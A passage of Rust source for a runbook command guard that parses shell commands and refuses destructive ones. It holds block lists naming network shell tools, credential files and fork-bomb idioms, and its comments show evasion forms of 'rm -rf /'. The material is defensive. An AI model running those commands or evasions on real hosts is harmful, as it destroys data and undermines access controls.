//! The command guard: decides whether a runbook's shell command may be saved or run.
//!
//! Runbook commands run through a shell on managed hosts, usually with elevated rights, so
//! one bad line can wipe a machine. The guard refuses destructive or privilege-escalating
//! commands before they are saved and again before they are executed.
//!
//! Matching the raw text is easy to evade (`r''m -rf /`, `sudo env X=1 sh -c '…'`,
//! `echo / | xargs rm -rf`), so the guard reads a command the way a POSIX shell would:
//!
//! 1. a small tokenizer removes quotes and escapes, splits simple commands on `;`, `&&`,
//!    `||`, `|`, `&` and newlines, and extracts `$(…)`, backticks, `<(…)` and heredocs;
//! 2. each simple command is stripped of wrappers (`sudo`, `env`, `nohup`, `timeout`,
//!    `xargs`, `sh -c`, `su -c`, `find -exec`, …) until its real verb is reached;
//! 3. the real verb and its arguments are judged by category (recursive delete, disk
//!    formatting, raw device writes, power state, permissions, accounts, SQL, …), and
//!    nested shell code is judged recursively, with a depth bound.
//!
//! The guard is deliberately conservative: when it cannot tell what will run (a verb
//! computed at run time, a recursive delete of a path made only of an unset variable,
//! shell code nested too deep), it refuses. It never panics, whatever the input.

use std::collections::HashMap;
use std::fmt;

/// Nested shell code (`sh -c`, `$(…)`, `find -exec`, …) deeper than this is refused: real
/// runbook commands never nest this far, and the bound keeps recursion finite.
const MAX_DEPTH: usize = 8;
/// Wrappers stripped from one simple command before giving up (`sudo nice env … cmd`).
const MAX_WRAPPERS: usize = 16;
/// Longest command accepted: runbook steps are one-liners, and the bound keeps checks cheap.
const MAX_COMMAND_BYTES: usize = 64 * 1024;
/// Characters tokenized for one check across all nesting levels, so that hostile nesting
/// cannot make a single check expensive.
const MAX_WORK_CHARS: usize = 4 * 1024 * 1024;
/// Longest `segment` kept in a refusal, so that messages stay readable.
const MAX_SEGMENT_CHARS: usize = 240;
/// Longest `$(…)` whose output the guard tries to predict (`$(which rm)`, `$(echo /)`).
const MAX_STATIC_SUBSTITUTION: usize = 256;
/// Words of predicted `xargs` input kept (`echo / | xargs rm -rf`).
const MAX_FEED: usize = 32;
/// Work charged for each nested piece of code on top of its length, so that many tiny
/// pieces also exhaust the budget.
const WORK_PER_PIECE: usize = 64;
/// Brace-expansion alternatives considered per argument (`/{etc,usr}`).
const MAX_BRACE_ALTERNATIVES: usize = 32;
/// Function bodies examined for fork bombs, and the characters read from each.
const MAX_FUNCTIONS: usize = 64;
const MAX_FUNCTION_BODY: usize = 4096;
/// String literals of interpreter code judged as shell commands.
const MAX_LITERALS: usize = 64;
/// Stands for the value of a variable the command assigns from something the guard
/// cannot evaluate (e.g. `X=$(mktemp -d)`): known to be set, value unknown.
const UNKNOWN_VALUE: &str = "\u{fffd}";

const RECURSIVE_DELETE: &str = "recursive_delete";
const FILESYSTEM_FORMAT: &str = "filesystem_format";
const BLOCK_DEVICE_WRITE: &str = "block_device_write";
const POWER_STATE: &str = "power_state";
const FORK_BOMB: &str = "fork_bomb";
const DOWNLOAD_EXECUTE: &str = "download_execute";
const OBFUSCATED_EXECUTE: &str = "obfuscated_execute";
const SYSTEM_PERMISSIONS: &str = "system_permissions";
const USER_MANAGEMENT: &str = "user_management";
const SQL_DESTRUCTIVE: &str = "sql_destructive";
const FORBIDDEN_VERB: &str = "forbidden_verb";
const EMPTY_COMMAND: &str = "empty_command";
const TOO_COMPLEX: &str = "too_complex";
const DYNAMIC_COMMAND: &str = "dynamic_command";

/// Top-level directories whose deletion (or recursive permission change) breaks the host.
const SYSTEM_DIRS: &[&str] = &[
    "etc", "usr", "bin", "sbin", "lib", "lib32", "lib64", "libx32", "boot", "var", "home", "root",
    "opt", "srv", "dev", "proc", "sys", "run", "snap", "mnt", "media",
];
/// Trees whose files must not have their permissions or owners changed by a runbook.
const SYSTEM_TREES: &[&str] =
    &["/etc/", "/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/", "/usr/lib", "/lib", "/boot/"];
/// Account, sudo and authentication files: writing them grants or removes access.
const USER_DB_FILES: &[&str] = &[
    "/etc/passwd",
    "/etc/passwd-",
    "/etc/shadow",
    "/etc/shadow-",
    "/etc/group",
    "/etc/group-",
    "/etc/gshadow",
    "/etc/gshadow-",
    "/etc/sudoers",
    "/etc/subuid",
    "/etc/subgid",
    "/root/.ssh/authorized_keys",
];
const USER_DB_DIRS: &[&str] = &["/etc/sudoers.d/", "/etc/pam.d/"];
/// `/dev` names of disks and memory: writing them destroys data below the filesystem.
const BLOCK_DEVICE_PREFIXES: &[&str] = &[
    "sd", "hd", "vd", "xvd", "nvme", "mmcblk", "md", "dm-", "mapper/", "disk/", "loop", "nbd",
    "rbd", "zd", "block/",
];
const RAW_MEMORY_DEVICES: &[&str] = &["mem", "kmem", "port", "root"];
/// `/dev` subdirectories that hold no disks, so `/dev/<dir>/<x>` there is not a volume.
const SAFE_DEV_DIRS: &[&str] = &[
    "fd",
    "pts",
    "shm",
    "mqueue",
    "net",
    "char",
    "input",
    "snd",
    "dri",
    "bus",
    "hugepages",
    "cpu",
    "usb",
    "serial",
    "v4l",
];
const FORMAT_TOOLS: &[&str] = &[
    "mke2fs",
    "mkswap",
    "wipefs",
    "fdisk",
    "sfdisk",
    "cfdisk",
    "parted",
    "gdisk",
    "sgdisk",
    "mkdosfs",
    "mkntfs",
    "mkexfatfs",
    "pvremove",
    "vgremove",
    "lvremove",
];
const USER_TOOLS: &[&str] = &[
    "useradd", "userdel", "usermod", "adduser", "deluser", "addgroup", "delgroup", "groupadd",
    "groupdel", "groupmod", "passwd", "chpasswd", "chage", "gpasswd", "newusers", "visudo", "vipw",
    "vigr", "pwconv", "grpconv",
];
const EDITORS: &[&str] =
    &["vi", "vim", "nvim", "nano", "ed", "ex", "emacs", "sudoedit", "pico", "joe", "mcedit"];
const SHELLS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "yash", "fish", "csh", "tcsh", "rbash",
    "posh",
];
const OTHER_INTERPRETERS: &[&str] =
    &["node", "nodejs", "deno", "bun", "lua", "luajit", "pwsh", "tclsh", "osascript"];
const INTERPRETER_PREFIXES: &[&str] = &["python", "perl", "ruby", "php"];
/// Builtins and tools that run text as code (in addition to interpreters).
const CODE_RUNNERS: &[&str] = &["eval", "source", ".", "at", "batch"];
const PRIVILEGE_WRAPPERS: &[&str] = &["sudo", "doas", "pkexec", "su", "runuser"];
const DOWNLOADERS: &[&str] = &[
    "curl",
    "wget",
    "fetch",
    "aria2c",
    "http",
    "https",
    "lwp-request",
    "lwp-download",
    "nc",
    "ncat",
];
/// Paths through which an interpreter reads its program from standard input.
const STDIN_PATHS: &[&str] = &["-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"];
/// Words that open a compound command; the command proper follows them.
const NOISE_WORDS: &[&str] =
    &["{", "}", "!", "then", "do", "else", "elif", "if", "while", "until", "done", "fi", "esac"];
const SQL_DROP_TARGETS: &[&str] =
    &["table", "database", "schema", "index", "user", "role", "tablespace"];
/// Perl/Python idioms that fork without bound, written without whitespace.
const FORK_LOOPS: &[&str] = &[
    "forkwhilefork",
    "while(1){fork",
    "while1:os.fork",
    "whiletrue:os.fork",
    "for(;;)fork",
    "for(;;){fork",
];

// ---------------------------------------------------------------------------------------
// Public API
// ---------------------------------------------------------------------------------------

/// Why a command was refused: `rule` is a short stable snake_case id (e.g.
/// "recursive_delete"), `reason` a human sentence naming what was found, and `segment` the
/// offending simple command as the guard saw it after unwrapping.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal {
    /// Stable id of the rule that fired, for callers and audit logs.
    pub rule: &'static str,
    /// English sentence naming what was found, for the operator.
    pub reason: String,
    /// The offending simple command after quote removal and unwrapping.
    pub segment: String,
}

impl Refusal {
    fn new(rule: &'static str, reason: impl Into<String>, segment: &str) -> Self {
        Self { rule, reason: reason.into(), segment: shorten(segment) }
    }

    fn too_complex(reason: impl Into<String>, segment: &str) -> Self {
        Self::new(TOO_COMPLEX, reason, segment)
    }
}

impl fmt::Display for Refusal {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} (rule {})", self.reason, self.rule)
    }
}

impl std::error::Error for Refusal {}

/// Judges runbook shell commands before they are saved or executed.
#[derive(Debug, Clone, Default)]
pub struct CommandGuard {
    /// Admin-configured phrases, lower-cased and whitespace-normalised.
    forbidden: Vec<String>,
}

impl CommandGuard {
    /// `forbidden_verbs`: extra phrases configured by the admin (e.g. "rm -rf", "drop table");
    /// a command containing one of them (case-insensitive, whitespace-normalised, checked on
    /// the whole command and on each unwrapped segment) is refused with rule "forbidden_verb".
    pub fn new(forbidden_verbs: &[String]) -> Self {
        let mut forbidden: Vec<String> = forbidden_verbs
            .iter()
            .map(|verb| normalize_phrase(verb))
            .filter(|verb| !verb.is_empty())
            .collect();
        forbidden.sort();
        forbidden.dedup();
        Self { forbidden }
    }

    /// Returns `Ok(())` when the command may run, or the first reason found to refuse it.
    pub fn check(&self, command: &str) -> Result<(), Refusal> {
        if command.trim().is_empty() {
            return Err(Refusal::new(EMPTY_COMMAND, "the command is empty", ""));
        }
        if command.len() > MAX_COMMAND_BYTES {
            return Err(Refusal::too_complex(
                format!("the command is longer than {MAX_COMMAND_BYTES} bytes"),
                command,
            ));
        }
        if lex(command).is_empty() {
            return Err(Refusal::new(
                EMPTY_COMMAND,
                "the command contains nothing to run (only separators or comments)",
                command,
            ));
        }
        Walker { guard: self, work: 0 }.script(command, 0, &Env::default())
    }

    /// The first configured phrase contained in `text`, compared case- and space-insensitively.
    fn forbidden_in(&self, text: &str) -> Option<&str> {
        if self.forbidden.is_empty() {
            return None;
        }
        let normalized = normalize_phrase(text);
        self.forbidden.iter().find(|verb| normalized.contains(verb.as_str())).map(String::as_str)
    }
}

/// Lower-cases and collapses whitespace, so phrases match however they are spaced.
fn normalize_phrase(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ").to_lowercase()
}

/// Collapses whitespace and truncates, so a refusal's segment stays one readable line.
fn shorten(text: &str) -> String {
    let collapsed = text.split_whitespace().collect::<Vec<_>>().join(" ");
    if collapsed.chars().count() <= MAX_SEGMENT_CHARS {
        return collapsed;
    }
    let mut short: String = collapsed.chars().take(MAX_SEGMENT_CHARS).collect();
    short.push('…');
    short
}

// ---------------------------------------------------------------------------------------
// Tokenizer
// ---------------------------------------------------------------------------------------

/// One piece of a shell word, after quote removal.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Part {
    /// Literal characters.
    Lit(String),
    /// `$NAME` or `${NAME…}`; `rest` is what follows the name inside braces (`:-default`).
    Var { name: String, rest: String, quoted: bool },
    /// `$(…)` or backticks: the inner shell code.
    Sub(String),
    /// `<(…)` or `>(…)`: the inner shell code.
    ProcSub(String),
    /// Shell code nested in a parameter expansion (`${x:-$(cmd)}`): judged, not rendered.
    Hidden(String),
}

/// A shell word as a sequence of parts, so expansions can be resolved later.
#[derive(Debug, Clone, Default)]
struct Word {
    parts: Vec<Part>,
}

impl Word {
    fn literal(text: String) -> Self {
        Self { parts: vec![Part::Lit(text)] }
    }

    /// The literal characters only (used for heredoc delimiters).
    fn plain_text(&self) -> String {
        self.parts
            .iter()
            .filter_map(|part| match part {
                Part::Lit(text) => Some(text.as_str()),
                _ => None,
            })
            .collect()
    }

    /// The inner shell code of every substitution in the word.
    fn substitutions(&self) -> impl Iterator<Item = &str> {
        self.parts.iter().filter_map(|part| match part {
            Part::Sub(code) | Part::ProcSub(code) | Part::Hidden(code) => Some(code.as_str()),
            _ => None,
        })
    }
}

#[derive(Debug, Clone)]
struct Redirect {
    write: bool,
    /// The operator as written (`>`, `>>`, `&>`, …), for messages.
    operator: &'static str,
    target: Word,
}

/// One simple command as written: its words, redirections and standard-input text.
#[derive(Debug, Clone, Default)]
struct Segment {
    words: Vec<Word>,
    redirects: Vec<Redirect>,
    /// Heredoc body or herestring: the text the command reads on standard input.
    stdin: Option<Word>,
    heredoc: bool,
    /// Whether the command's output is piped into the next segment.
    piped: bool,
}

impl Segment {
    fn is_empty(&self) -> bool {
        self.words.is_empty() && self.redirects.is_empty() && self.stdin.is_none() && !self.heredoc
    }

    /// Inner code of every substitution in the words, redirections and stdin text.
    fn substitutions(&self) -> Vec<String> {
        let redirect_words = self.redirects.iter().map(|r| &r.target);
        self.words
            .iter()
            .chain(redirect_words)
            .chain(self.stdin.iter())
            .flat_map(Word::substitutions)
            .map(str::to_string)
            .collect()
    }
}

/// What the next finished word is for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Pending {
    Argument,
    Redirect { write: bool, operator: &'static str },
    HereDoc { strip_tabs: bool },
    HereString,
}

/// The word being built by the tokenizer.
#[derive(Debug, Default)]
struct WordBuf {
    parts: Vec<Part>,
    lit: String,
    started: bool,
    quoted: bool,
}

impl WordBuf {
    fn push(&mut self, c: char) {
        self.lit.push(c);
        self.started = true;
    }

    fn push_part(&mut self, part: Part) {
        self.flush();
        self.parts.push(part);
        self.started = true;
    }

    fn flush(&mut self) {
        if !self.lit.is_empty() {
            self.parts.push(Part::Lit(std::mem::take(&mut self.lit)));
        }
    }

    fn take(&mut self) -> (Word, bool) {
        self.flush();
        let word = Word { parts: std::mem::take(&mut self.parts) };
        let quoted = self.quoted;
        *self = Self::default();
        (word, quoted)
    }

    /// `2` in `2>&1` is a file descriptor, not an argument.
    fn is_fd_number(&self) -> bool {
        self.started
            && self.parts.is_empty()
            && !self.quoted
            && !self.lit.is_empty()
            && self.lit.chars().all(|c| c.is_ascii_digit())
    }
}

struct HereDoc {
    segment: usize,
    delimiter: String,
    strip_tabs: bool,
    quoted: bool,
}

/// A small shell tokenizer: enough of POSIX/bash syntax to find every simple command and
/// every piece of nested code; anything it does not understand becomes ordinary words.
struct Lexer {
    chars: Vec<char>,
    pos: usize,
    segments: Vec<Segment>,
    current: Segment,
    word: WordBuf,
    pending: Pending,
    heredocs: Vec<HereDoc>,
}

/// Splits shell code into simple commands.
fn lex(text: &str) -> Vec<Segment> {
    Lexer::new(text).run()
}

/// Reads text the way a heredoc body or double-quoted string is read: `$…` and backticks
/// expand, everything else is literal.
fn expand_text(text: &str) -> Word {
    let mut lexer = Lexer::new(text);
    lexer.word.started = true;
    lexer.double_quoted(None);
    lexer.word.take().0
}

impl Lexer {
    fn new(text: &str) -> Self {
        Self {
            chars: text.chars().collect(),
            pos: 0,
            segments: Vec::new(),
            current: Segment::default(),
            word: WordBuf::default(),
            pending: Pending::Argument,
            heredocs: Vec::new(),
        }
    }

    fn peek(&self, ahead: usize) -> Option<char> {
        self.chars.get(self.pos.saturating_add(ahead)).copied()
    }

    fn advance(&mut self, n: usize) {
        self.pos = self.pos.saturating_add(n).min(self.chars.len());
    }

    fn collect(&self, start: usize, end: usize) -> String {
        let end = end.min(self.chars.len());
        self.chars.get(start.min(end)..end).unwrap_or_default().iter().collect()
    }

    fn run(mut self) -> Vec<Segment> {
        while let Some(c) = self.peek(0) {
            self.step(c);
        }
        self.end_segment(false);
        self.segments
    }

    fn step(&mut self, c: char) {
        match c {
            ' ' | '\t' | '\r' => {
                self.finish_word();
                self.advance(1);
            }
            '\n' => {
                self.advance(1);
                self.end_segment(false);
                self.read_heredoc_bodies();
            }
            ';' | '(' | ')' => {
                self.advance(1);
                self.end_segment(false);
            }
            '&' if self.peek(1) == Some('>') => self.ampersand_redirect(),
            '&' => {
                self.advance(if self.peek(1) == Some('&') { 2 } else { 1 });
                self.end_segment(false);
            }
            '|' => self.pipe(),
            '<' | '>' => self.angle(c),
            '#' if !self.word.started => self.skip_comment(),
            '\'' => self.single_quoted(),
            '"' => {
                self.advance(1);
                self.word.quoted = true;
                self.word.started = true;
                self.double_quoted(Some('"'));
            }
            '\\' => self.escaped(),
            '$' => self.dollar(false),
            '`' => self.backtick(),
            _ => {
                self.word.push(c);
                self.advance(1);
            }
        }
    }

    fn finish_word(&mut self) {
        if !self.word.started {
            return;
        }
        let (word, quoted) = self.word.take();
        match std::mem::replace(&mut self.pending, Pending::Argument) {
            Pending::Argument => self.current.words.push(word),
            Pending::Redirect { write, operator } => {
                self.current.redirects.push(Redirect { write, operator, target: word });
            }
            Pending::HereDoc { strip_tabs } => {
                self.current.heredoc = true;
                self.heredocs.push(HereDoc {
                    segment: self.segments.len(),
                    delimiter: word.plain_text(),
                    strip_tabs,
                    quoted,
                });
            }
            Pending::HereString => self.current.stdin = Some(word),
        }
    }

    fn end_segment(&mut self, piped: bool) {
        self.finish_word();
        self.pending = Pending::Argument;
        let mut segment = std::mem::take(&mut self.current);
        if !segment.is_empty() {
            segment.piped = piped;
            self.segments.push(segment);
        }
    }

    fn pipe(&mut self) {
        self.advance(1);
        if self.peek(0) == Some('|') {
            self.advance(1);
            self.end_segment(false);
            return;
        }
        if self.peek(0) == Some('&') {
            self.advance(1);
        }
        self.end_segment(true);
    }

    /// `&>file` and `&>>file`.
    fn ampersand_redirect(&mut self) {
        self.finish_word();
        self.advance(2);
        let mut operator = "&>";
        if self.peek(0) == Some('>') {
            self.advance(1);
            operator = "&>>";
        }
        self.pending = Pending::Redirect { write: true, operator };
    }

    /// Redirections, heredocs, herestrings and process substitution.
    fn angle(&mut self, c: char) {
        if self.peek(1) == Some('(') {
            self.advance(2);
            let inner = self.scan_parens();
            self.word.push_part(Part::ProcSub(inner));
            return;
        }
        if self.word.is_fd_number() {
            self.word = WordBuf::default();
        } else {
            self.finish_word();
        }
        let (len, pending) = match (c, self.peek(1), self.peek(2)) {
            ('<', Some('<'), Some('<')) => (3, Pending::HereString),
            ('<', Some('<'), Some('-')) => (3, Pending::HereDoc { strip_tabs: true }),
            ('<', Some('<'), _) => (2, Pending::HereDoc { strip_tabs: false }),
            ('<', Some('>'), _) => (2, Pending::Redirect { write: true, operator: "<>" }),
            ('<', Some('&'), _) => (2, Pending::Redirect { write: false, operator: "<&" }),
            ('<', _, _) => (1, Pending::Redirect { write: false, operator: "<" }),
            (_, Some('>'), _) => (2, Pending::Redirect { write: true, operator: ">>" }),
            (_, Some('|'), _) => (2, Pending::Redirect { write: true, operator: ">|" }),
            (_, Some('&'), _) => (2, Pending::Redirect { write: true, operator: ">&" }),
            _ => (1, Pending::Redirect { write: true, operator: ">" }),
        };
        self.advance(len);
        self.pending = pending;
    }

    fn skip_comment(&mut self) {
        while let Some(c) = self.peek(0) {
            if c == '\n' {
                return;
            }
            self.advance(1);
        }
    }

    fn single_quoted(&mut self) {
        self.advance(1);
        self.word.started = true;
        self.word.quoted = true;
        while let Some(c) = self.peek(0) {
            self.advance(1);
            if c == '\'' {
                return;
            }
            self.word.push(c);
        }
    }

    fn escaped(&mut self) {
        match self.peek(1) {
            Some('\n') => self.advance(2),
            Some(c) => {
                self.word.push(c);
                self.word.quoted = true;
                self.advance(2);
            }
            None => {
                self.word.push('\\');
                self.advance(1);
            }
        }
    }

    /// Reads until `terminator` (or the end): `$…` and backticks expand, `\` escapes only
    /// the characters it escapes inside double quotes.
    fn double_quoted(&mut self, terminator: Option<char>) {
        while let Some(c) = self.peek(0) {
            if Some(c) == terminator {
                self.advance(1);
                return;
            }
            match c {
                '\\' => match self.peek(1) {
                    Some('\n') => self.advance(2),
                    Some(next @ ('$' | '`' | '"' | '\\')) => {
                        self.word.push(next);
                        self.advance(2);
                    }
                    _ => {
                        self.word.push('\\');
                        self.advance(1);
                    }
                },
                '$' => self.dollar(true),
                '`' => self.backtick(),
                _ => {
                    self.word.push(c);
                    self.advance(1);
                }
            }
        }
    }

    fn dollar(&mut self, in_quotes: bool) {
        match self.peek(1) {
            Some('(') => {
                self.advance(2);
                let inner = self.scan_parens();
                self.word.push_part(Part::Sub(inner));
            }
            Some('{') => {
                self.advance(2);
                let inner = self.scan_braces();
                self.push_parameter(&inner, in_quotes);
            }
            Some('\'') if !in_quotes => {
                self.advance(2);
                let text = self.ansi_c_quoted();
                self.word.quoted = true;
                self.word.started = true;
                self.word.lit.push_str(&text);
            }
            Some('"') if !in_quotes => {
                self.advance(2);
                self.word.quoted = true;
                self.word.started = true;
                self.double_quoted(Some('"'));
            }
            Some(c) if c.is_ascii_alphabetic() || c == '_' => {
                self.advance(1);
                let name = self.take_name();
                self.word.push_part(Part::Var { name, rest: String::new(), quoted: in_quotes });
            }
            Some(c) if c.is_ascii_digit() || "@*#?$!-".contains(c) => {
                self.advance(2);
                let name = c.to_string();
                self.word.push_part(Part::Var { name, rest: String::new(), quoted: in_quotes });
            }
            _ => {
                self.word.push('$');
                self.advance(1);
            }
        }
    }

    fn take_name(&mut self) -> String {
        let mut name = String::new();
        while let Some(c) = self.peek(0) {
            if !(c.is_ascii_alphanumeric() || c == '_') {
                break;
            }
            name.push(c);
            self.advance(1);
        }
        name
    }

    /// `${NAME…}`; code nested in the operator part is kept so it can be judged.
    fn push_parameter(&mut self, inner: &str, quoted: bool) {
        let (name, rest) = split_parameter(inner);
        let nested: Vec<String> =
            if rest.contains("$(") || rest.contains('`') || rest.contains("<(") {
                expand_text(&rest).substitutions().map(str::to_string).collect()
            } else {
                Vec::new()
            };
        self.word.push_part(Part::Var { name, rest, quoted });
        for code in nested {
            self.word.push_part(Part::Hidden(code));
        }
    }

    fn backtick(&mut self) {
        self.advance(1);
        let mut inner = String::new();
        while let Some(c) = self.peek(0) {
            self.advance(1);
            match c {
                '`' => break,
                '\\' => match self.peek(0) {
                    Some(next @ ('`' | '\\' | '$')) => {
                        inner.push(next);
                        self.advance(1);
                    }
                    _ => inner.push('\\'),
                },
                _ => inner.push(c),
            }
        }
        self.word.push_part(Part::Sub(inner));
    }

    /// `$'…'`: decodes `\x72`, `\162`, `\n`, … as bash does.
    fn ansi_c_quoted(&mut self) -> String {
        let mut out = String::new();
        while let Some(c) = self.peek(0) {
            self.advance(1);
            match c {
                '\'' => break,
                '\\' => {
                    let mut at = self.pos;
                    if let Some(decoded) = decode_escape(&self.chars, &mut at) {
                        out.push(decoded);
                    }
                    self.pos = at.min(self.chars.len());
                }
                _ => out.push(c),
            }
        }
        out
    }

    /// From just after `(` to the matching `)`: returns the inner text and moves past it.
    /// Unbalanced input takes the rest of the text.
    fn scan_parens(&mut self) -> String {
        self.scan_balanced('(', ')')
    }

    fn scan_braces(&mut self) -> String {
        self.scan_balanced('{', '}')
    }

    fn scan_balanced(&mut self, open: char, close: char) -> String {
        let start = self.pos;
        let mut depth = 1usize;
        while let Some(c) = self.peek(0) {
            match c {
                '\\' => {
                    self.advance(2);
                    continue;
                }
                '\'' => self.skip_single(),
                '"' | '`' => self.skip_escaped(c),
                '#' if open == '(' && self.at_word_start(start) => {
                    self.skip_comment();
                    continue;
                }
                _ if c == open => depth += 1,
                _ if c == close => {
                    depth -= 1;
                    if depth == 0 {
                        let inner = self.collect(start, self.pos);
                        self.advance(1);
                        return inner;
                    }
                }
                _ => {}
            }
            self.advance(1);
        }
        self.collect(start, self.chars.len())
    }

    fn at_word_start(&self, start: usize) -> bool {
        self.pos == start
            || self
                .pos
                .checked_sub(1)
                .and_then(|i| self.chars.get(i))
                .is_some_and(|c| c.is_whitespace() || matches!(c, ';' | '&' | '|' | '('))
    }

    /// Leaves `pos` on the closing quote (or at the end).
    fn skip_single(&mut self) {
        self.advance(1);
        while let Some(c) = self.peek(0) {
            if c == '\'' {
                return;
            }
            self.advance(1);
        }
    }

    /// Leaves `pos` on the closing quote (or at the end); backslash escapes one character.
    fn skip_escaped(&mut self, quote: char) {
        self.advance(1);
        while let Some(c) = self.peek(0) {
            if c == quote {
                return;
            }
            self.advance(if c == '\\' { 2 } else { 1 });
        }
    }

    fn read_heredoc_bodies(&mut self) {
        for doc in std::mem::take(&mut self.heredocs) {
            let body = self.read_heredoc_body(&doc);
            let word = if doc.quoted { Word::literal(body) } else { expand_text(&body) };
            if let Some(segment) = self.segments.get_mut(doc.segment) {
                segment.stdin = Some(word);
            }
        }
    }

    fn read_heredoc_body(&mut self, doc: &HereDoc) -> String {
        let mut body = String::new();
        while self.pos < self.chars.len() {
            let start = self.pos;
            while self.peek(0).is_some_and(|c| c != '\n') {
                self.advance(1);
            }
            let line = self.collect(start, self.pos);
            self.advance(1);
            let line = if doc.strip_tabs { line.trim_start_matches('\t') } else { line.as_str() };
            if line.trim_end_matches('\r') == doc.delimiter {
                break;
            }
            body.push_str(line);
            body.push('\n');
        }
        body
    }
}

/// Splits the inside of `${…}` into the parameter name and the operator part.
fn split_parameter(inner: &str) -> (String, String) {
    let body = match inner.strip_prefix(['!', '#']) {
        Some(rest) if rest.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_') => rest,
        _ => inner,
    };
    let name_len =
        body.find(|c: char| !(c.is_ascii_alphanumeric() || c == '_')).unwrap_or(body.len());
    if name_len > 0 {
        let (name, rest) = body.split_at(name_len);
        return (name.to_string(), rest.to_string());
    }
    match body.chars().next() {
        Some(c) => (c.to_string(), body.get(c.len_utf8()..).unwrap_or_default().to_string()),
        None => (String::new(), String::new()),
    }
}

/// Decodes one backslash escape (the character after `\` is at `*at`), as `$'…'`, `echo -e`
/// and `printf` do, so that `$'\x72\x6d'` is read as `rm`.
fn decode_escape(chars: &[char], at: &mut usize) -> Option<char> {
    let Some(&c) = chars.get(*at) else {
        return Some('\\');
    };
    *at += 1;
    let decoded = match c {
        'n' => '\n',
        't' => '\t',
        'r' => '\r',
        'a' => '\u{7}',
        'b' => '\u{8}',
        'e' | 'E' => '\u{1b}',
        'f' => '\u{c}',
        'v' => '\u{b}',
        'x' => return escaped_number(chars, at, 16, 2).or(Some('x')),
        'u' => return escaped_number(chars, at, 16, 4).or(Some('u')),
        'U' => return escaped_number(chars, at, 16, 8).or(Some('U')),
        '0' => return escaped_number(chars, at, 8, 3).or(Some('\0')),
        '1'..='7' => {
            *at -= 1;
            return escaped_number(chars, at, 8, 3);
        }
        'c' => {
            let next = chars.get(*at).copied()?;
            *at += 1;
            return char::from_u32(u32::from(next) & 0x1f);
        }
        other => other,
    };
    Some(decoded)
}

/// Reads up to `max_digits` digits of an escape (`\x41`, `\101`) as a character.
fn escaped_number(chars: &[char], at: &mut usize, radix: u32, max_digits: usize) -> Option<char> {
    let mut value: u32 = 0;
    let mut digits = 0;
    while digits < max_digits {
        let Some(digit) = chars.get(*at).and_then(|c| c.to_digit(radix)) else {
            break;
        };
        value = value.saturating_mul(radix).saturating_add(digit);
        *at += 1;
        digits += 1;
    }
    if digits == 0 {
        return None;
    }
    Some(char::from_u32(value).unwrap_or('\u{fffd}'))
}

/// Decodes every backslash escape in `text` (`echo -e`, `printf`).
fn decode_escapes(text: &str) -> String {
    let chars: Vec<char> = text.chars().collect();
    let mut out = String::with_capacity(text.len());
    let mut at = 0;
    while let Some(&c) = chars.get(at) {
        at += 1;
        if c != '\\' {
            out.push(c);
            continue;
        }
        if let Some(decoded) = decode_escape(&chars, &mut at) {
            out.push(decoded);
        }
    }
    out
}

// ---------------------------------------------------------------------------------------
// Resolving words into arguments
// ---------------------------------------------------------------------------------------

/// What the guard knows about the shell's variables and working directory at a point of
/// the command: only what the command itself sets.
#[derive(Debug, Clone, Default)]
struct Env {
    /// `Some(value)` when the command assigns a known value, `None` when it assigns
    /// something the guard cannot evaluate.
    vars: HashMap<String, Option<String>>,
    /// Known working directory after a `cd` in the command.
    cwd: Option<String>,
}

impl Env {
    fn at(cwd: Option<&str>) -> Self {
        Self { vars: HashMap::new(), cwd: cwd.map(str::to_string) }
    }
}

/// A word after expansion, as the program will receive it (as far as the guard can tell).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
struct Arg {
    /// The value with quotes removed; unknown expansions contribute nothing, `$HOME` is `~`.
    text: String,
    /// Source-like rendering that keeps unknown expansions, for re-reading as shell code.
    script: String,
    /// Whether part of the value is only known at run time.
    dynamic: bool,
}

impl Arg {
    fn plain(text: &str) -> Self {
        Self { text: text.to_string(), script: text.to_string(), dynamic: false }
    }

    fn push(&mut self, text: &str) {
        self.text.push_str(text);
        self.script.push_str(text);
    }

    /// What to show the operator: the source form when the value is unknown.
    fn shown(&self) -> &str {
        if self.dynamic {
            &self.script
        } else {
            &self.text
        }
    }
}

/// Expands one word; an unquoted variable holding spaces splits into several arguments.
fn resolve_word(word: &Word, env: &Env) -> Vec<Arg> {
    let mut arg = Arg::default();
    let mut split = false;
    for part in &word.parts {
        match part {
            Part::Lit(text) => arg.push(text),
            Part::Var { name, rest, quoted } => {
                split |= resolve_variable(&mut arg, name, rest, env) && !quoted;
            }
            Part::Sub(code) => match static_output(code) {
                Some(output) => arg.push(&output),
                None => {
                    arg.dynamic = true;
                    arg.script.push_str(&format!("$({code})"));
                }
            },
            Part::ProcSub(_) => arg.push("/dev/fd/63"),
            Part::Hidden(_) => {}
        }
    }
    if split {
        let pieces: Vec<Arg> = arg
            .text
            .split_whitespace()
            .map(|piece| Arg { dynamic: arg.dynamic, ..Arg::plain(piece) })
            .collect();
        if !pieces.is_empty() {
            return pieces;
        }
    }
    vec![arg]
}

/// Appends a variable's value; returns whether the value contains whitespace.
fn resolve_variable(arg: &mut Arg, name: &str, rest: &str, env: &Env) -> bool {
    match env.vars.get(name) {
        Some(Some(value)) => {
            arg.push(value);
            value.chars().any(char::is_whitespace)
        }
        Some(None) => {
            arg.push(UNKNOWN_VALUE);
            arg.dynamic = true;
            false
        }
        None if name == "HOME" => {
            arg.text.push('~');
            arg.script.push_str("${HOME}");
            false
        }
        None => {
            match default_value(rest) {
                Some(default) => arg.push(default),
                None => {
                    arg.dynamic = true;
                    arg.script.push_str(&format!("${{{name}{rest}}}"));
                }
            }
            false
        }
    }
}

/// The literal default of `${X:-default}` (used when `X` is unset).
fn default_value(rest: &str) -> Option<&str> {
    let value = [":-", ":=", "-", "="].iter().find_map(|op| rest.strip_prefix(op))?;
    (!value.contains(['$', '`'])).then_some(value)
}

/// Predicts the output of trivial substitutions (`$(which rm)`, `$(command -v rm)`,
/// `$(echo /)`), so they cannot hide a verb or a path.
